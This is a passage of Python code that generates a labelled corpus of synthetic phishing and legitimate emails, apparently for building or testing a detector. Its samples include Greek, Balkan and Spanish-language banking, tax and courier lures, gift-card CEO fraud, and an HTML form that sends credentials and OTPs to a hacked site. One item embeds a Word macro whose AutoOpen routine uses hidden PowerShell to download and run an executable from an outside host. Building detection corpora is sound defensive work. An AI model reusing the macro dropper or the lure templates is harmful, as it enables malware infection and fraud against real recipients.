<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:24px 24px 8px"><img src="https://na4.docusign.net/Signing/Images/email/Email_Logo.png" alt="DocuSign" width="116"></td></tr>
<tr><td style="padding:0 24px"><table width="100%" style="background:#1e4ca1;color:#ffffff"><tr><td align="center" style="padding:28px">
<p style="font-size:16px;margin:0 0 18px">Departamento Legal - Grupo Pacífico le envió un documento para revisar y firmar.</p>
<a href="{_ds}" style="background:#ffc820;color:#333333;font-weight:bold;padding:12px 24px;text-decoration:none;border-radius:2px">REVISAR DOCUMENTO</a>
</td></tr></table></td></tr>
<tr><td style="padding:22px 24px;font-size:15px;color:#333333"><b>Departamento Legal - Grupo Pacífico</b><br><span style="color:#666666">legal.grupopacifico@outlook.com</span><br><br>
Estimados señores: adjuntamos el contrato de compraventa de café verde para la cosecha 2025-2026 con las condiciones acordadas. Favor revisar y firmar a la brevedad para programar el primer embarque.</td></tr>
<tr><td style="padding:16px 24px;font-size:12px;color:#666666;background:#f4f4f4"><b>No comparta este correo electrónico</b><br>Este correo electrónico contiene un enlace seguro a Docusign. No comparta este correo electrónico, el enlace ni el código de acceso con otras personas.<br><br>
<b>Método de firma alternativo</b><br>Visite Docusign.com, haga clic en 'Acceder a documentos' e introduzca el código de seguridad: {tok('ds36sc', 32, '0123456789ABCDEF')}4</td></tr>
</table></td></tr></table></body></html>
""", style="mkt"))

# 37 PayPal invoice abuse with a callback number, Spanish
add(slug="cr-paypal-invoice-callback-es", kind="phish", cat="phishing",
    desc="Genuine PayPal invoice (service@paypal.com, all auth passes) from a fraudster's merchant account in Spanish: a fake 'Norton 360' renewal of USD 499.99 whose note tells the victim to call a phone number to cancel.",
    dt=when(2025, 7, 14, 22, 3, 50, -360), frm=("PayPal", "service@paypal.com"),
    to=("", "mariela.quiros.cr@gmail.com"), mx="gmail",
    subject="Factura nueva de Norton Billing Dept. (N.º de factura 0043)",
    **esp(("mx0.slc.paypal.com", "173.0.84.226"), [("mta", dict(src="slcmailcore7.slc.paypal.com", ip="173.0.84.91", by="mx0.slc.paypal.com"))],
          "paypal.com", "pp-dkim1", "service@paypal.com", mid_style="uuid", mid_domain="mx0.slc.paypal.com"),
    extra=["X-Email-Type-Id: PPX002186"],
    body=alt("pp37", """<html><head><meta charset="utf-8"></head><body style="font-family:PayPal Sans,Helvetica,Arial,sans-serif;background:#f5f7fa">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="600" style="background:#ffffff;padding:28px">
<tr><td><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="40" alt="PayPal"></td></tr>
<tr><td style="font-size:24px;padding:18px 0">Norton Billing Dept. le envió una factura por $499.99 USD</td></tr>
<tr><td style="font-size:14px;color:#333">Vencimiento de la factura: al recibirla<br>N.º de factura: 0043</td></tr>
<tr><td style="font-size:14px;padding:16px 0;color:#333"><b>Nota del vendedor</b><br>Gracias por renovar Norton 360 Deluxe (5 dispositivos, 3 años). El cargo de $499.99 se aplicará automáticamente en 24 horas. Si usted no autorizó esta renovación o desea cancelarla y recibir un reembolso, llame a nuestro departamento de facturación al +1 (844) 687-2291.</td></tr>
<tr><td style="padding:10px 0"><a href="https://www.paypal.com/invoice/p/#INV2-7QKD-XM4R-T8WB-3FJH" style="background:#003087;color:#ffffff;padding:12px 26px;border-radius:24px;text-decoration:none;font-weight:bold">Ver y pagar factura</a></td></tr>
<tr><td style="font-size:12px;color:#666;padding-top:20px">No comparta sus datos de inicio de sesión. PayPal nunca le pedirá su contraseña por teléfono.<br><a href="https://www.paypal.com/cr/smarthelp/home" style="color:#666">Centro de ayuda</a> | <a href="https://www.paypal.com/cr/legalhub/home" style="color:#666">Legal</a><br>Copyright © 1999-2025 PayPal, Inc. Todos los derechos reservados.</td></tr>
</table></td></tr></table></body></html>
""", style="mkt"))

# ==========================================================================
# ATTACKS - Greece and the Balkans
# ==========================================================================

# 38 Piraeus winbank, Greek, lookalike
add(slug="gr-piraeus-winbank-psd2", kind="phish", cat="phishing",
    desc="Piraeus Bank winbank 'PSD2 details update' lure in Greek from lookalike winbank-piraeus.com, link to a fake winbank login on the same domain.",
    dt=when(2025, 5, 12, 9, 33, 17, 180), frm=("Τράπεζα Πειραιώς", "enimerosi@winbank-piraeus.com"),
    to=("Ελένη Παπαδοπούλου", "eleni.papadopoulou@gmail.com"), mx="gmail",
    subject="Ενημέρωση ασφαλείας: Απαιτείται επιβεβαίωση στοιχείων winbank",
    **kit_sender("winbank-piraeus.com", "77.91.124.56"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("pir38", kit_html(
        "Piraeus", "#FFD200", "Επικαιροποίηση στοιχείων winbank",
        ["Αγαπητέ/ή πελάτη,",
         "Στο πλαίσιο της συμμόρφωσης με την Οδηγία PSD2 και τις οδηγίες της Τράπεζας της Ελλάδος, είναι απαραίτητη η "
         "επικαιροποίηση των στοιχείων σας στο winbank.",
         "Εάν δεν ολοκληρώσετε τη διαδικασία έως τις <b>15/05/2025</b>, η πρόσβασή σας στην ηλεκτρονική τραπεζική και στο "
         "winbank mobile app θα περιοριστεί προσωρινά.",
         "Η διαδικασία διαρκεί λιγότερο από 2 λεπτά."],
        ("Επιβεβαίωση στοιχείων", f"https://winbank-piraeus.com/gr/auth/?sid={tok('pir38', 24)}"),
        "Τράπεζα Πειραιώς Α.Ε., Αμερικής 4, 10564 Αθήνα. Τηλ. 210 32 88 000", lang="el"), style="php"))

# 39 AADE tax refund, Greek, workers.dev behind a fake visible URL
_u = f"https://aade-epistrofi.nikos-k88.workers.dev/myaade/?afm={tok('aade39', 10)}"
add(slug="gr-aade-epistrofi-workers", kind="phish", cat="phishing",
    desc="AADE/myAADE 'tax refund of 436.20 euro' lure in Greek from aade-epistrofi.com; the visible text shows an aade.gr address but the link goes to a workers.dev card-harvesting page.",
    dt=when(2025, 7, 3, 11, 2, 49, 180), frm=("ΑΑΔΕ - myAADE", "noreply@aade-epistrofi.com"),
    to=("", "nikos.georgiou75@gmail.com"), mx="gmail",
    subject="Επιστροφή φόρου 2024: Υπάρχει ποσό 436,20 € προς επιστροφή",
    **kit_sender("aade-epistrofi.com", "77.91.124.61"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("aade39", kit_html(
        "ΑΑΔΕ", "#0D3B66", "Ειδοποίηση επιστροφής φόρου",
        ["Αγαπητέ φορολογούμενε,",
         "Μετά την εκκαθάριση της δήλωσης φορολογίας εισοδήματος φορολογικού έτους 2024, προέκυψε ποσό προς επιστροφή "
         "<b>436,20 €</b>.",
         "Για να πιστωθεί το ποσό, επιβεβαιώστε τον λογαριασμό IBAN και τα στοιχεία της κάρτας σας μέσω της εφαρμογής myAADE "
         "εντός 5 εργάσιμων ημερών:",
         f'<a href="{_u}">https://www.aade.gr/myaade/epistrofi</a>'],
        ("Μετάβαση στο myAADE", _u),
        "Ανεξάρτητη Αρχή Δημοσίων Εσόδων, Καρ. Σερβίας 10, 10184 Αθήνα.", lang="el"), style="php"))

# 40 ELTA Courier, Greek, shortener
add(slug="gr-elta-teli-shortlink", kind="phish", cat="phishing",
    desc="ELTA Courier 'parcel cannot be delivered, 1.99 euro fee pending' lure in Greek from elta-dlvr.com with a cutt.ly short link to a card-payment page.",
    dt=when(2025, 1, 21, 18, 45, 30, 120), frm=("ΕΛΤΑ Courier", "tracking@elta-dlvr.com"),
    to=("", "nikos.georgiou75@gmail.com"), mx="gmail",
    subject="ΕΛΤΑ: Το δέμα σας δεν μπορεί να παραδοθεί - εκκρεμούν τέλη 1,99 €",
    **kit_sender("elta-dlvr.com", "91.92.246.113"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("elta40", kit_html(
        "ΕΛΤΑ Courier", "#004B93", "Αποτυχία παράδοσης",
        ["Αγαπητέ πελάτη,",
         "Το δέμα σας με αριθμό αποστολής <b>GR8837104526</b> βρίσκεται στο κέντρο διαλογής Κρυονερίου. Η παράδοση δεν ήταν "
         "δυνατή λόγω μη καταβολής τελών διεκπεραίωσης ύψους <b>1,99 €</b>.",
         "Παρακαλούμε πληρώστε τα τέλη εντός 48 ωρών, διαφορετικά το δέμα θα επιστραφεί στον αποστολέα."],
        ("Πληρωμή & προγραμματισμός", "https://cutt.ly/eLtaGR88"),
        "ΕΛΤΑ Courier Α.Ε. Εξυπηρέτηση πελατών 210 6073000", lang="el"), style="php"))

# 41 Eurobank, direct spoof, HTML attachment with a form
_eb_html = f"""<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>Eurobank Business - Σύνδεση</title>
<style>body{{font-family:Arial;background:#f0f2f5}}.w{{width:400px;margin:50px auto;background:#fff;padding:28px;border-top:5px solid #c8102e}}
input{{width:100%;padding:9px;margin:6px 0 12px;border:1px solid #ccc;box-sizing:border-box}}button{{background:#c8102e;color:#fff;border:0;padding:11px;width:100%}}</style></head>
<body><div class="w"><h3>Eurobank Business Banking</h3>
<p style="font-size:13px">Για την έγκριση της εκκρεμούς μεταφοράς SEPA (EUR 24.860,00) συνδεθείτε με τους κωδικούς σας.</p>
<form action="https://tavernadimitris-naxos.gr/wp-admin/css/colors/eb/auth.php" method="post">
<input type="hidden" name="em" value="accounting@aegeanmarine.gr">
<label>Κωδικός χρήστη</label><input name="u"><label>Συνθηματικό</label><input name="p" type="password">
<label>Κωδικός μιας χρήσης (SMS OTP)</label><input name="o">
<button type="submit">Σύνδεση</button></form></div></body></html>
"""
add(slug="gr-eurobank-sepa-html-form", kind="phish", cat="phishing",
    desc="Direct spoof of eurobank.gr (SPF fail, DMARC fail) to a shipping firm's accounting: 'SEPA transfer awaiting approval', with an HTML attachment posting business-banking username, password and OTP to a hacked Naxos taverna site.",
    dt=when(2025, 10, 28, 10, 17, 3, 120), frm=("Eurobank Business", "noreply@eurobank.gr"),
    to=("Λογιστήριο", "accounting@aegeanmarine.gr"), mx="m365:eur",
    subject="Eurobank Business: Εκκρεμεί έγκριση μεταφοράς SEPA - 24.860,00 EUR",
    **spoof_sender("mail.mdsrv-44.com", "45.131.66.82", "info@mdsrv-44.com", spf="fail", p="QUARANTINE"),
    extra=["X-Mailer: Microsoft Outlook 16.0"],
    body=mixed("eb41", alt("eb41", """<html><body style="font-family:Arial;font-size:14px">
<p>Αξιότιμε πελάτη,</p>
<p>Μια εντολή μεταφοράς SEPA ποσού <b>24.860,00 EUR</b> προς δικαιούχο GLOBAL MARINE SUPPLY LTD εκκρεμεί για έγκριση από δεύτερο εξουσιοδοτημένο χρήστη.</p>
<p>Για λόγους ασφαλείας, η έγκριση γίνεται μέσω του συνημμένου ασφαλούς εγγράφου. Εάν δεν αναγνωρίζετε τη συναλλαγή, ακυρώστε την από το ίδιο έγγραφο έως τις 16:00 σήμερα.</p>
<p>Με εκτίμηση,<br>Eurobank Business Banking</p>
</body></html>
""", style="outlook", enc_="base64"), att("text/html", "Eurobank_SEPA_Egkrisi.html", _eb_html.encode()), style="outlook"))

# 42 CEO fraud with gift cards, Greek, Gmail display name
add(slug="gr-ceo-google-play-cards", kind="phish", cat="phishing",
    desc="Gift-card CEO fraud in Greek: the managing director of a Piraeus ship-services firm impersonated from Gmail asks an office assistant to buy five 100-euro Google Play cards and send photos of the codes; no link.",
    dt=when(2025, 12, 15, 9, 41, 12, 120), frm=("Γιώργος Κωνσταντίνου", "g.konstantinou.ams@gmail.com"),
    to=("Μαρία Λαμπράκη", "m.lamprakis@aegeanmarine.gr"), mx="m365:eur",
    subject="Εξυπηρέτηση",
    **gmail_sender("g.konstantinou.ams@gmail.com", 5),
    extra=[],
    body=gmail_body("gpc42", """Μαρία, καλημέρα.

Είσαι στο γραφείο; Χρειάζομαι μια γρήγορη εξυπηρέτηση. Είμαι σε σύσκεψη με τον πλοιοκτήτη και δεν μπορώ να μιλήσω στο τηλέφωνο.

Θέλω να πάρεις 5 κάρτες Google Play των 100€ από το περίπτερο ή το Πλαίσιο για δώρα στα πληρώματα για τα Χριστούγεννα. Θα σου τα επιστρέψω σήμερα από το ταμείο.

Όταν τις πάρεις, ξύσε το πίσω μέρος και στείλε μου φωτογραφίες των κωδικών εδώ. Μην το πεις σε κανέναν, θέλω να είναι έκπληξη.

Ευχαριστώ,
Γιώργος

Στάλθηκε από το iPhone μου
"""))

# 43 Calendar invite from a lookalike partner, link to a Firebase page
_fb = f"https://charterparty-review.web.app/view?doc=MV-Aegean-Star-CP-2025&t={tok('cal43', 18)}"
_ics = f"""BEGIN:VCALENDAR
PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN
VERSION:2.0
METHOD:REQUEST
BEGIN:VEVENT
ORGANIZER;CN=Dimitris Vlachos:mailto:d.vlachos@hellenic-bunker.gr
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Giorgos Konstantinou:mailto:g.konstantinou@aegeanmarine.gr
DESCRIPTION:Καλημέρα κ. Κωνσταντίνου\\,\\n\\nΠριν τη σύσκεψη παρακαλώ δείτε το αναθεωρημένο charter party για το MV Aegean Star:\\n{_fb}\\n\\n(απαιτείται σύνδεση με τον εταιρικό λογαριασμό Microsoft 365)\\n\\nΔημήτρης Βλάχος\\nHellenic Bunkering S.A.
UID:040000008200E00074C5B7101A82E00800000000{hexs('cal43uid', 32).upper()}
SUMMARY;LANGUAGE=el-GR:Επισκόπηση charter party MV Aegean Star
DTSTART:20250612T080000Z
DTEND:20250612T083000Z
CLASS:PUBLIC
PRIORITY:5
DTSTAMP:20250610T071500Z
TRANSP:OPAQUE
STATUS:CONFIRMED
SEQUENCE:0
LOCATION;LANGUAGE=el-GR:Microsoft Teams
BEGIN:VALARM
ACTION:DISPLAY
DESCRIPTION:REMINDER
TRIGGER;RELATED=START:-PT15M
END:VALARM
END:VEVENT
END:VCALENDAR
""".replace("\n", "\r\n")
_cal_plain = f"""Καλημέρα κ. Κωνσταντίνου,

Πριν τη σύσκεψη παρακαλώ δείτε το αναθεωρημένο charter party για το MV Aegean Star:
{_fb}

(απαιτείται σύνδεση με τον εταιρικό λογαριασμό Microsoft 365)

Δημήτρης Βλάχος
Hellenic Bunkering S.A.
"""
add(slug="gr-calendar-invite-charterparty", kind="phish", cat="phishing",
    desc="Outlook meeting request from lookalike hellenic-bunker.gr (real partner: hellenicbunker.gr) to a ship-services MD, whose description links to a Firebase web.app 'charter party' page asking for Microsoft 365 sign-in.",
    dt=when(2025, 6, 10, 10, 15, 0, 180), frm=("Dimitris Vlachos", "d.vlachos@hellenic-bunker.gr"),
    to=("Giorgos Konstantinou", "g.konstantinou@aegeanmarine.gr"), mx="m365:eur",
    subject="Πρόσκληση: Επισκόπηση charter party MV Aegean Star @ Πέμ 12/6/2025 11:00 - 11:30",
    relay=("mail.hellenic-bunker.gr", "185.225.74.28"), inner=[("postfix-auth", dict(ip="94.66.57.210", user="d.vlachos", by="mail.hellenic-bunker.gr", client="192.168.1.34"))],
    auth=dict(spf="pass", dkim="pass", dmarc="pass", p="NONE", d="hellenic-bunker.gr", s="mail", mailfrom="d.vlachos@hellenic-bunker.gr"),
    dkim=("hellenic-bunker.gr", "mail"), style="outlook", mid_style="outlook", mid_domain="VI1PR09MB4417.eurprd09.prod.outlook.com",
    extra=["Content-Class: urn:content-classes:calendarmessage", "X-MS-Has-Attach: yes", "X-MS-TNEF-Correlator:"],
    body=Multi("mixed", bnd("outlook", "cal43m"), [
        Multi("alternative", bnd("outlook", "cal43a"), [
            text(_cal_plain),
            text("<html><head><meta charset=\"utf-8\"></head><body><p>Καλημέρα κ. Κωνσταντίνου,</p>"
                 f"<p>Πριν τη σύσκεψη παρακαλώ δείτε το αναθεωρημένο charter party για το MV Aegean Star:<br><a href=\"{_fb}\">{_fb}</a></p>"
                 "<p>(απαιτείται σύνδεση με τον εταιρικό λογαριασμό Microsoft 365)</p><p>Δημήτρης Βλάχος<br>Hellenic Bunkering S.A.</p></body></html>\n", "html"),
            Leaf("text/calendar", _ics.encode(), "base64", '; charset="utf-8"; method=REQUEST'),
        ]),
        Leaf("application/ics", _ics.encode(), "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"'),
    ]))

# 44 Hrvatska pošta, Croatian, shortener
add(slug="hr-posta-carina-shortlink", kind="phish", cat="phishing",
    desc="Hrvatska pošta 'parcel held, customs fee 2.49 euro' lure in Croatian from posta-hr-paket.com with an rb.gy short link to a card form.",
    dt=when(2025, 3, 3, 17, 28, 44, 60), frm=("Hrvatska pošta", "obavijesti@posta-hr-paket.com"),
    to=("", "ivana.babic85@gmail.com"), mx="gmail",
    subject="Vaša pošiljka je zadržana - potrebna uplata carinske pristojbe (2,49 €)",
    **kit_sender("posta-hr-paket.com", "91.92.247.20"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("hp44", kit_html(
        "Hrvatska pošta", "#FFCC00", "Pošiljka čeka uplatu",
        ["Poštovani,",
         "Vaša pošiljka broj <b>CH304118752HR</b> zadržana je u Sortirnom centru Zagreb zbog neplaćene carinske pristojbe u iznosu od "
         "<b>2,49 €</b>.",
         "Molimo izvršite uplatu u roku od 3 dana. Nakon isteka roka pošiljka će biti vraćena pošiljatelju."],
        ("Plati i dogovori dostavu", "https://rb.gy/hp7x2q"),
        "Hrvatska pošta d.d., Jurišićeva 13, 10000 Zagreb. Info: 072 303 304", lang="hr"), style="php"))

# 45 ePorezna refund, PDF with a QR code
_u = f"https://eporezna-povrat.pages.dev/joppd?oib={tok('epz45', 11, '0123456789')}"
add(slug="hr-eporezna-povrat-pdf-qr", kind="phish", cat="phishing",
    desc="Quishing in Croatian: 'ePorezna notice of overpaid tax refund' from porezna-uprava-gov.com to a travel agency, with a PDF whose QR code leads to a pages.dev page harvesting e-Gradani/NIAS and card details.",
    dt=when(2025, 4, 22, 8, 55, 10, 120), frm=("Porezna uprava - ePorezna", "eporezna@porezna-uprava-gov.com"),
    to=("Računovodstvo Jadran Turist", "racunovodstvo@jadranturist.hr"), mx="postfix:mail.jadranturist.hr:2",
    subject="ePorezna: Obavijest o povratu više plaćenog poreza",
    **kit_sender("porezna-uprava-gov.com", "91.92.247.31"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=mixed("epz45", text("""Poštovani,

u privitku Vam dostavljamo obavijest o povratu više plaćenog poreza po JOPPD obrascu za 2024. godinu u iznosu od 1.286,40 EUR.
Za preuzimanje rješenja i potvrdu IBAN-a skenirajte QR kôd iz priloženog dokumenta mobitelom.

Ministarstvo financija - Porezna uprava
Središnji ured
"""), att("application/pdf", "Obavijest_povrat_2024.pdf", pdf_qr(
        ["REPUBLIKA HRVATSKA - MINISTARSTVO FINANCIJA", "POREZNA UPRAVA", "",
         "OBAVIJEST O POVRATU VISE PLACENOG POREZA", "Klasa: 410-01/25-01/4471   Urbroj: 513-07-21-01/25-2", "",
         "Utvrden je povrat u iznosu od 1.286,40 EUR.", "Skenirajte QR kod za potvrdu podataka o racunu (IBAN)."],
        _u, "Obavijest o povratu", ["Rok za potvrdu: 8 dana od primitka obavijesti."])), style="php"))

# 46 Pošta Srbije, Serbian Cyrillic, lookalike
add(slug="rs-posta-srbije-cyr", kind="phish", cat="phishing",
    desc="Posta Srbije 'confirm your address and pay 149 dinars' lure in Serbian Cyrillic from lookalike postasrbije-posiljke.com, link to a card-payment page on the same domain.",
    dt=when(2025, 9, 16, 16, 2, 21, 120), frm=("Пошта Србије", "info@postasrbije-posiljke.com"),
    to=("", "milos.petrovic.bg@gmail.com"), mx="gmail",
    subject="Ваша пошиљка чека на испоруку - потребна потврда адресе",
    **kit_sender("postasrbije-posiljke.com", "94.156.79.12"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("ps46", kit_html(
        "Пошта Србије", "#0057A8", "Пошиљка RR204418836RS",
        ["Поштовани,",
         "Ваша пошиљка <b>RR204418836RS</b> стигла је у Пошту 11000 Београд, али није могла бити уручена због непотпуне адресе.",
         "Молимо вас да потврдите адресу и платите накнаду за поновно уручење од <b>149 РСД</b> у року од 48 сати. У супротном, "
         "пошиљка ће бити враћена пошиљаоцу."],
        ("Потврди адресу", f"https://postasrbije-posiljke.com/rs/potvrda?id=RR204418836RS&k={tok('ps46', 12)}"),
        "ЈП Пошта Србије, Таковска 2, 11120 Београд. Кориснички сервис 0700 100 300", lang="sr"), style="php"))

# 47 Banca Intesa, Serbian Latin, compromised clinic mailbox, Google Sites
add(slug="rs-intesa-mbanking-gsites", kind="phish", cat="phishing",
    desc="Banca Intesa 'mobile banking will be suspended' lure in Serbian Latin sent from a compromised dental clinic mailbox (auth passes), linking to a Google Sites page that forwards to a credential form.",
    dt=when(2025, 11, 25, 13, 30, 9, 60), frm=("Banca Intesa", "office@stomatologija-nis.rs"),
    to=("", "jelena.markovic.ns@gmail.com"), mx="gmail",
    subject="Banca Intesa: Vaš nalog za mobilno bankarstvo biće suspendovan",
    **mailbox(("cpanel08.mojhosting.rs", "93.87.109.44"),
                  [("exim", dict(ip="185.213.26.90", by="cpanel08.mojhosting.rs", env="office@stomatologija-nis.rs"))],
                  "stomatologija-nis.rs", "default", "office@stomatologija-nis.rs", "kit", "kit"),
    extra=["User-Agent: Roundcube Webmail/1.6.6"],
    body=alt("int47", kit_html(
        "Banca Intesa", "#5CA44E", "Obaveštenje o suspenziji naloga",
        ["Poštovani klijente,",
         "U skladu sa odlukom Narodne banke Srbije o elektronskoj identifikaciji, potrebno je da potvrdite svoje podatke za "
         "Mobi Banking aplikaciju. Vaš nalog će biti suspendovan 27.11.2025. ukoliko ne izvršite potvrdu.",
         "Potvrda traje manje od 3 minuta."],
        ("Potvrdi podatke", "https://sites.google.com/view/intesa-mobi-potvrda/pocetna"),
        "Banca Intesa ad Beograd, Milentija Popovića 7b, 11070 Novi Beograd. Kontakt centar 011 310 88 88", lang="sr-Latn"),
        style="php"))

# 48 NAP (Bulgaria) unpaid VAT, Bulgarian, lookalike
add(slug="bg-nap-zadalzhenie-lookalike", kind="phish", cat="phishing",
    desc="Bulgarian NRA (NAP) 'unpaid VAT liability of 1,284.60 leva, enforcement will follow' lure from lookalike nap-bg.online to a food producer's accounting, linking to a card-payment page.",
    dt=when(2025, 6, 24, 10, 4, 50, 180), frm=("НАП - Национална агенция за приходите", "uvedomlenie@nap-bg.online"),
    to=("Счетоводство Родопа Фуудс", "schetovodstvo@rodopa-foods.bg"), mx="postfix:mail.rodopa-foods.bg:3",
    subject="Уведомление за неплатено задължение по ЗДДС - изх. № 2025-118/4473",
    **kit_sender("nap-bg.online", "94.156.79.40"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("nap48", kit_html(
        "НАП", "#2A5CAA", "Уведомление за задължение",
        ["Уважаеми данъчно задължено лице,",
         "Уведомяваме Ви, че по данни от информационната система на НАП за Вашето дружество е установено неплатено задължение "
         "по ЗДДС за данъчен период 04/2025 в размер на <b>1 284,60 лв.</b>, включително лихви.",
         "Задължението следва да бъде погасено в 7-дневен срок от получаване на настоящото уведомление. В противен случай ще бъдат "
         "предприети действия по принудително събиране съгласно ДОПК.",
         "Плащането може да се извърши онлайн с банкова карта чрез портала за е-услуги."],
        ("Плащане онлайн", f"https://nap-bg.online/e-uslugi/plashtane?pin={tok('nap48', 10, '0123456789')}"),
        "Национална агенция за приходите, бул. „Княз Александър Дондуков“ 52, 1000 София. Информационен център 0700 18 700",
        lang="bg"), style="php"))

# 49 Raiffeisen Albania, Albanian, Notion page
add(slug="al-raiffeisen-on-notion", kind="phish", cat="phishing",
    desc="Raiffeisen Bank Albania 'update your data in Raiffeisen ON within 48 hours' lure in Albanian from raiffeisen-al.com, linking to a Notion-hosted page that forwards to a credential form.",
    dt=when(2025, 4, 8, 10, 25, 37, 120), frm=("Raiffeisen Bank Albania", "njoftime@raiffeisen-al.com"),
    to=("", "erion.hoxha@gmail.com"), mx="gmail",
    subject="Njoftim i rëndësishëm: Përditësoni të dhënat tuaja në Raiffeisen ON",
    **kit_sender("raiffeisen-al.com", "193.233.254.71"),
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=alt("rai49", kit_html(
        "Raiffeisen Bank", "#FFE600", "Përditësimi i të dhënave",
        ["I/E nderuar klient,",
         "Në zbatim të rregullores së Bankës së Shqipërisë për njohjen e klientit, ju lutemi të përditësoni të dhënat tuaja "
         "personale brenda <b>48 orëve</b>.",
         "Në të kundërt, aksesi juaj në Raiffeisen ON dhe përdorimi i kartës do të pezullohen përkohësisht."],
        ("Përditëso tani", f"https://raiffeisen-on-al.notion.site/Perditesimi-{hexs('rai49', 32)}"),
        "Raiffeisen Bank Sh.a., Bulevardi \"Tabaku Bajram\", Tiranë. Qendra e kontaktit +355 4 2381 381", lang="sq"), style="php"))

# 50 Payment order DOCM with an auto-exec macro (malware), Greek
_macro = '''Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim s As String
    s = "powershell -w hidden -nop -c ""$f=$env:TEMP+'\\wd.exe';(New-Object Net.WebClient).DownloadFile('https://kritikos-logistiki.gr.bk-upd.com/inv/1187.bin',$f);Start-Process $f"""
    CreateObject("WScript.Shell").Run s, 0, False
End Sub
'''
add(slug="gr-entoli-pliromis-docm", kind="phish", cat="malware",
    desc="Malware dropper in Greek: 'payment order for invoice 1187/2025' from kritikos-logistiki.com, posing as an outside accounting office, with a macro-enabled DOCM whose AutoOpen macro downloads and runs an executable; the body tells the reader to enable editing.",
    dt=when(2025, 9, 30, 12, 46, 8, 180), frm=("Κρητικός Λογιστική", "pliromes@kritikos-logistiki.com"),
    to=("Λογιστήριο Olympia Foods", "logistirio@olympiafoods.gr"), mx="postfix:mail.olympiafoods.gr:3",
    subject="Εντολή πληρωμής - Τιμολόγιο ΤΔΑ 1187/2025",
    **kit_sender("kritikos-logistiki.com", "91.92.240.87"),
    extra=["X-Mailer: Microsoft Outlook 16.0"],
    body=mixed("docm50", outlook_body("docm50", """Καλησπέρα σας,

Σας επισυνάπτουμε την εντολή πληρωμής για το τιμολόγιο ΤΔΑ 1187/2025 ποσού 6.842,50 €.
Το έγγραφο είναι προστατευμένο. Παρακαλώ πατήστε «Ενεργοποίηση επεξεργασίας» και «Ενεργοποίηση περιεχομένου» για να εμφανιστεί.

Ευχαριστώ,
Άννα Ρουσάκη
Λογιστήριο
"""), att("application/vnd.ms-word.document.macroEnabled.12", "Entoli_Pliromis_1187.docm",
          files.docx(["ΕΝΤΟΛΗ ΠΛΗΡΩΜΗΣ", "Το περιεχόμενο είναι κρυπτογραφημένο.",
                      "Πατήστε Ενεργοποίηση περιεχομένου για να δείτε το έγγραφο."],
                     "Entoli Pliromis", "Anna R.", macro=_macro)), style="outlook"))

# ==========================================================================
# LEGITIMATE - notifications, newsletters (bulk)
# ==========================================================================


def brand_html(brand, color, heading, paras, button, footer, pixel, lang="en", logo_url="", preheader=""):
    """kit_html's layout as real senders use it, plus preheader and open-tracking pixel."""
    h = kit_html(brand, color, heading, paras, button, footer, lang=lang, logo_url=logo_url)
    pre = (f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all">{preheader}</div>\n' if preheader else "")
    h = h.replace('<body style="margin:0;padding:0;background:#f2f4f6;font-family:Arial,Helvetica,sans-serif">\n',
                  '<body style="margin:0;padding:0;background:#f2f4f6;font-family:Arial,Helvetica,sans-serif">\n' + pre, 1)
    return h.replace("</body>", f'<img src="{pixel}" width="1" height="1" alt="" style="display:block;border:0">\n</body>', 1)


def ses(region_host: str, ip: str, domain: str, mailfrom_sub: str, sel: str) -> dict:
    return esp((region_host, ip), [], domain, sel, f"{hexs(domain, 16)}@{mailfrom_sub}", p="QUARANTINE", mid_style="ses")


# L1 Daraz order shipped
_c = lambda path, n: f"https://click.daraz.pk/ls/click?upn={tok('dzl' + str(n), 60)}-2F{b64u(path)[:20]}"  # noqa: E731
add(slug="pk-daraz-order-shipped", kind="bulk", cat="bulk",
    desc="Genuine Daraz.pk shipping notification (Amazon SES, daraz.pk DKIM aligned) with order items, tracking redirects and a courier tracking number.",
    dt=when(2025, 11, 13, 14, 2, 11, 300), frm=("Daraz", "no-reply@notification.daraz.pk"),
    to=("", "bilal.hussain92@gmail.com"), mx="gmail",
    subject="Your package for order #215803447261893 has been shipped",
    **ses("e226-7.smtp-out.ap-southeast-1.amazonses.com", "23.251.226.7", "daraz.pk", "ap-southeast-1.amazonses.com", "dz2023"),
    extra=["Feedback-ID: 1.ap-southeast-1.JX8s0b7Qe1Yl2m3NnB4cVtK8Zq0p2w6Hh3Xj9UuQpA=:AmazonSES", "X-SES-Outgoing: 2025.11.13-23.251.226.7"],
    body=alt("dzl1", brand_html(
        "Daraz", "#F85606", "Your package is on the way!",
        ["Hi Bilal,", "Good news! Your package from <b>Anker Official Store</b> has been handed over to Daraz Express (DEX) "
         "and is expected to reach you between <b>15 Nov - 17 Nov</b>.",
         "Order #215803447261893<br>1 x Anker PowerCore 20000mAh Power Bank - Black &nbsp; Rs. 8,499<br>Shipping: Rs. 149<br>"
         "<b>Total (Cash on Delivery): Rs. 8,648</b>",
         "Tracking number: DEX-PK-4417826930",
         "Please keep the exact amount ready. Our rider will never ask you for an OTP or PIN."],
        ("Track Package", _c("https://my.daraz.pk/customer/order/index/?tradeOrderId=215803447261893", 1)),
